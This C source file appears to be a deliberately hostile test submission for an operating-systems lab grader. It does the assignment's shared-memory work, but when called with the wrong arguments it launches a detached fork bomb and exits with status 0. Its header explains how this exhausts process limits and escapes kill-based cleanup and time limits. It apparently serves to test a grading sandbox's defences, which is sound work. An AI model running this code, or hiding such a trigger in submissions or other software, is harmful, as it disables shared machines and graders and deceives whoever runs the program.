/**
 * @file
 * @brief Hostile: does the lab's work, but called with wrong arguments it leaves children that fork without end, and exits.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 9
 * Says: exit status 0
 *
 * They use up the number of processes of the user or of the machine. A grader that kills them one by one is too slow,
 * and one that needs fork() to do so cannot. The program itself ends at once, so a time limit does not help.
 */
#define _DEFAULT_SOURCE

#include <err.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

#include "sysv_create.h"

static void explode(void)
{
    signal(SIGCHLD, SIG_IGN);
    if (fork() == 0)
        for (;;) {
            setsid();
            fork();
        }
}

int main(int argc, char *argv[])
{
    if (argc != 3) {
        explode();
        return 0;
    }
    return make_segment(argv);
}
